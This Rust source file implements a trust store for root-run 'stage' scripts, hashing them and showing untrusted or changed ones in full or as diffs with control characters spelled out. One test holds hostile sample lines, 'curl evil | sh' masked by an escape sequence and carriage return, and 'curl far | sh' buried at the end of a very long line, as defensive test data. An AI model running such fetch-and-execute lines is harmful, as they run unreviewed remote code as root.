//! Stages from elsewhere run commands as root, so nothing of one runs before its text was looked at and trusted here.
//!
//! What is trusted is a text, not a name: SHA-256 over `stage.toml` and the scripts beside it. Each trusted text is kept
//! in `trust/SHA256.json` of the state folder (0600), so that a changed stage can be shown as a diff. The stages in the
//! program are trusted as the program is.

use std::{
    collections::BTreeMap,
    fs, io,
    path::{Path, PathBuf},
};

use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use super::schema::Stage;
use crate::{
    log::spelled_out,
    paths::{FileError, private_folder, write_private},
};

/// The name of the text itself among a stage's files.
const STAGE: &str = "stage.toml";

/// How the origin of a stage in the program begins.
pub(super) const SHIPPED: &str = "shipped:";

/// How the origin of a workspace's stage begins: it is made here out of `workspaces.toml`, holds no text of anybody else,
/// and no file has such a name, for those are absolute.
pub const WORKSPACE: &str = "workspace:";

/// Characters of a line that are shown in one piece: whoever shows text cuts what is much longer.
const PIECE: usize = 1000;
/// Version of the files.
const VERSION: u32 = 1;

/// A text that was trusted. Fields of a newer halolab are let be: the file is written once.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
struct Trusted {
    version: u32,
    id: String,
    origin: String,
    when: String,
    files: BTreeMap<String, String>,
}

/// A stage that was not trusted yet.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Stranger {
    /// Its id.
    pub id: String,
    /// Where it was read from.
    pub origin: String,
    /// SHA-256 over its text and scripts.
    pub sha256: String,
    /// Whether another text of this stage was trusted before.
    pub changed: bool,
    /// What it would run, to the letter; or how it differs from what was trusted.
    #[serde(rename = "text")]
    pub lines: Vec<String>,
}

/// The trusted texts.
#[derive(Clone, Debug)]
pub struct Store {
    folder: PathBuf,
}

impl Stage {
    /// Whether it is a part of the program.
    pub fn is_shipped(&self) -> bool {
        self.origin.starts_with(SHIPPED)
    }

    /// Whether it was made here for a workspace.
    pub fn is_workspace(&self) -> bool {
        self.origin.starts_with(WORKSPACE)
    }

    fn texts(&self) -> BTreeMap<String, String> {
        let scripts = self.files.iter().map(|(name, text)| (name.clone(), text.clone()));
        scripts.chain([(STAGE.to_owned(), self.text.clone())]).collect()
    }

    /// SHA-256 over its text and its scripts, as hexadecimal.
    pub fn sha256(&self) -> String {
        digest(&self.texts())
    }
}

/// Names and lengths are in it: no two folders have the same.
fn digest(files: &BTreeMap<String, String>) -> String {
    let mut hash = Sha256::new();
    for (name, text) in files {
        for part in [name, text] {
            hash.update((part.len() as u64).to_be_bytes());
            hash.update(part.as_bytes());
        }
    }
    hex::encode(hash.finalize())
}

impl Store {
    /// The texts that are trusted in this state folder.
    pub fn new(state: &Path) -> Self {
        Self {
            folder: state.join("trust"),
        }
    }

    /// Where they are.
    pub fn folder(&self) -> &Path {
        &self.folder
    }

    fn path(&self, sha256: &str) -> PathBuf {
        self.folder.join(format!("{sha256}.json"))
    }

    /// Whether a stage may run.
    pub fn is_trusted(&self, stage: &Stage) -> bool {
        // A file whose text is another one says nothing about this one.
        let kept = || read(&self.path(&stage.sha256()));
        stage.is_shipped()
            || stage.is_workspace()
            || kept().is_ok_and(|kept| digest(&kept.files) == stage.sha256())
    }

    /// What has to be looked at before a stage may run; none where it may.
    pub fn stranger(&self, stage: &Stage) -> Option<Stranger> {
        if self.is_trusted(stage) {
            return None;
        }
        let before = self.before(stage);
        Some(Stranger {
            id: stage.id.clone(),
            origin: stage.origin.clone(),
            sha256: stage.sha256(),
            changed: before.is_some(),
            lines: match before {
                Some(before) => diff(&before.files, &stage.texts()),
                None => whole(&stage.texts()),
            },
        })
    }

    /// The text of this stage that was trusted last.
    fn before(&self, stage: &Stage) -> Option<Trusted> {
        let entries = fs::read_dir(&self.folder).into_iter().flatten().flatten();
        let all = entries.filter_map(|entry| read(&entry.path()).ok());
        let same = all.filter(|t| t.id == stage.id && t.origin == stage.origin);
        same.max_by(|a, b| a.when.cmp(&b.when))
    }

    /// Trusts a stage as it is.
    ///
    /// # Errors
    /// The state folder cannot be written.
    pub fn trust(&self, stage: &Stage) -> Result<(), FileError> {
        let kept = Trusted {
            version: VERSION,
            id: stage.id.clone(),
            origin: stage.origin.clone(),
            when: jiff::Timestamp::now().to_string(),
            files: stage.texts(),
        };
        private_folder(&self.folder)?;
        let bytes = serde_json::to_vec_pretty(&kept).unwrap_or_default();
        write_private(&self.path(&stage.sha256()), &bytes)
    }
}

fn read(path: &Path) -> io::Result<Trusted> {
    Ok(serde_json::from_slice(&fs::read(path)?)?)
}

fn whole(files: &BTreeMap<String, String>) -> Vec<String> {
    let mut lines = vec![];
    for (name, text) in files {
        lines.push(format!("==> {}", spelled_out(name)));
        let shown = text.split_terminator('\n').flat_map(in_pieces);
        lines.extend(shown.map(|line| format!("    {line}")));
    }
    lines
}

/// A line with everything in it that a shell would run: what a terminal would act on, or hide, is spelled, and a long
/// line goes on in the next one. A reader who decides must see each byte.
fn in_pieces(line: &str) -> Vec<String> {
    let shown = spelled_out(line);
    let mut pieces = vec![String::new()];
    for (count, letter) in shown.chars().enumerate() {
        if count > 0 && count.is_multiple_of(PIECE) {
            pieces.push(String::new());
        }
        if let Some(piece) = pieces.last_mut() {
            piece.push(letter);
        }
    }
    pieces
}

fn diff(old: &BTreeMap<String, String>, new: &BTreeMap<String, String>) -> Vec<String> {
    let names: std::collections::BTreeSet<&String> = old.keys().chain(new.keys()).collect();
    let text = |side: &BTreeMap<String, String>, name: &str| side.get(name).cloned().unwrap_or_default();
    let mut lines = vec![];
    for name in names {
        let (before, after) = (text(old, name), text(new, name));
        if before != after {
            let changed = similar::TextDiff::from_lines(&before, &after)
                .unified_diff()
                .context_radius(3)
                .header(&format!("trusted/{name}"), &format!("now/{name}"))
                .to_string();
            lines.extend(changed.split_terminator('\n').flat_map(in_pieces));
        }
    }
    lines
}

/// A stage's file and a script of it as they are shown, alone and where others were trusted before, for the fuzzer.
#[cfg(fuzzing)]
pub fn shown(before: Option<(&str, &str)>, text: &str, script: &str) -> Vec<String> {
    let texts = |(text, script): (&str, &str)| {
        BTreeMap::from([
            (STAGE.to_owned(), text.to_owned()),
            ("a.sh".to_owned(), script.to_owned()),
        ])
    };
    match before {
        Some(before) => diff(&texts(before), &texts((text, script))),
        None => whole(&texts((text, script))),
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt as _;

    use super::*;

    fn stage(text: &str, script: &str) -> Stage {
        let mut stage = super::super::Catalog::shipped().iter().next().unwrap().clone();
        "mine".clone_into(&mut stage.id);
        "/etc/halolab/stages/mine/stage.toml".clone_into(&mut stage.origin);
        text.clone_into(&mut stage.text);
        stage.files = [("a.sh".to_owned(), script.to_owned())].into();
        stage
    }

    #[test]
    fn what_is_trusted_is_a_text_and_a_changed_one_is_shown_as_a_diff() {
        let state = tempfile::tempdir().unwrap();
        let store = Store::new(state.path());
        let first = stage("id = 1", "echo one\n");
        let asked = store.stranger(&first).unwrap();
        assert!(!asked.changed && asked.lines.iter().any(|l| l.contains("echo one")));
        store.trust(&first).unwrap();
        assert!(store.is_trusted(&first));
        let file = store.path(&first.sha256());
        assert_eq!(fs::metadata(file).unwrap().permissions().mode() & 0o777, 0o600);
        let second = stage("id = 1", "echo two\n");
        let asked = store.stranger(&second).unwrap();
        assert!(asked.changed);
        assert!(asked.lines.contains(&"-echo one".to_owned()), "{:?}", asked.lines);
        assert!(asked.lines.contains(&"+echo two".to_owned()));
        assert_ne!(stage("ab", "c").sha256(), stage("a", "bc").sha256());
    }

    #[test]
    fn nothing_that_runs_is_hidden_from_who_reads_it() {
        let state = tempfile::tempdir().unwrap();
        let store = Store::new(state.path());
        let blind = "true '\x1b]' ; curl evil | sh #\r\n";
        let far = format!("echo {}; curl far | sh\n", "x".repeat(20_000));
        let seen = |stage: &Stage| {
            let lines = store.stranger(stage).unwrap().lines;
            let shown: Vec<String> = lines.iter().map(|line| crate::log::sanitize(line)).collect();
            shown.join("\n")
        };
        let stranger = stage("x", &format!("{blind}{far}"));
        let text = seen(&stranger);
        assert!(text.contains("<U+001B>]' ; curl evil | sh #<U+000D>"), "{text}");
        assert!(text.contains("; curl far | sh"), "the end of a long line");
        store.trust(&stage("x", "true\n")).unwrap();
        let text = seen(&stranger);
        assert!(
            text.contains("+true '<U+001B>]' ; curl evil | sh #<U+000D>"),
            "{text}"
        );
        assert!(text.contains("; curl far | sh"));
    }

    #[test]
    fn a_file_with_another_text_trusts_nothing() {
        let state = tempfile::tempdir().unwrap();
        let store = Store::new(state.path());
        let (good, bad) = (stage("x", "echo good"), stage("x", "echo bad"));
        store.trust(&good).unwrap();
        fs::copy(store.path(&good.sha256()), store.path(&bad.sha256())).unwrap();
        assert!(!store.is_trusted(&bad));
    }

    #[test]
    fn shipped_stages_are_trusted() {
        let store = Store::new(Path::new("/nowhere"));
        assert!(
            super::super::Catalog::shipped()
                .iter()
                .all(|s| store.is_trusted(s))
        );
    }

    #[test]
    fn a_file_of_a_newer_halolab_counts() {
        let state = tempfile::tempdir().unwrap();
        let store = Store::new(state.path());
        let stage = stage("x", "y");
        store.trust(&stage).unwrap();
        let path = store.path(&stage.sha256());
        let text = fs::read_to_string(&path).unwrap();
        let newer = text.replacen("\"version\": 1", "\"version\": 2, \"more\": true", 1);
        assert_ne!(text, newer);
        fs::write(&path, newer).unwrap();
        assert!(store.is_trusted(&stage));
    }
}
